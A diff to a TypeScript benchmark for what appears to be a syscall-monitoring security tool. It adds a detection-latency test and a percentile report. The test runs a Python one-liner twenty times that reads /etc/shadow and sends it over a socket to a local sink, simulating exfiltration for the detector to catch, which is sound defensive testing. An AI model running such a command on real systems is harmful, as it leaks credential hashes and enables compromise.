@@ -38,6 +38,12 @@ async function main(): Promise<void> {
     const b = median(watched[name]!) / 1e6;
     console.log(`  ${name}: unwatched ${a.toFixed(0)} ms, watched ${b.toFixed(0)} ms, +${(((b - a) / a) * 100).toFixed(1)}%`);
   }
+  // detection latency: the transmit syscall's kernel timestamp → the finding leaving the pipeline
+  const before = h.findings.length;
+  for (let i = 0; i < 20; i++) {
+    await h.run(`exfil${i}`, `python3 -c 'import socket; d=open("/etc/shadow","rb").read(); s=socket.create_connection(("127.0.0.2",${sink.port})); s.sendall(d); s.close()'`);
+  }
+  const exfil = h.findings.length - before;
   // zero-loss rate: open+close pairs (two records each, never coalesced) at a fixed rate for 3 s
   console.log('records/s sustained (open+close pairs for 3 s), loss per step:');
   let best = 0;
@@ -71,6 +77,9 @@ print(done)
   const summary = await h.close();
   h.cleanup();
   await sink.close();
+  const lat = [...summary.detectionLatencyMs].sort((a, b) => a - b);
+  const q = (p: number): number => lat[Math.min(lat.length - 1, Math.floor(p * lat.length))]!;
+  console.log(`detection latency over ${lat.length} findings (${exfil} from 20 exfiltrations): p50 ${q(0.5).toFixed(1)} ms, p99 ${q(0.99).toFixed(1)} ms, max ${lat.at(-1)!.toFixed(1)} ms`);
   console.log(`session: ${summary.events} events, ${summary.lostEvents} lost in total, attach ${summary.attachMs} ms`);
 }
 
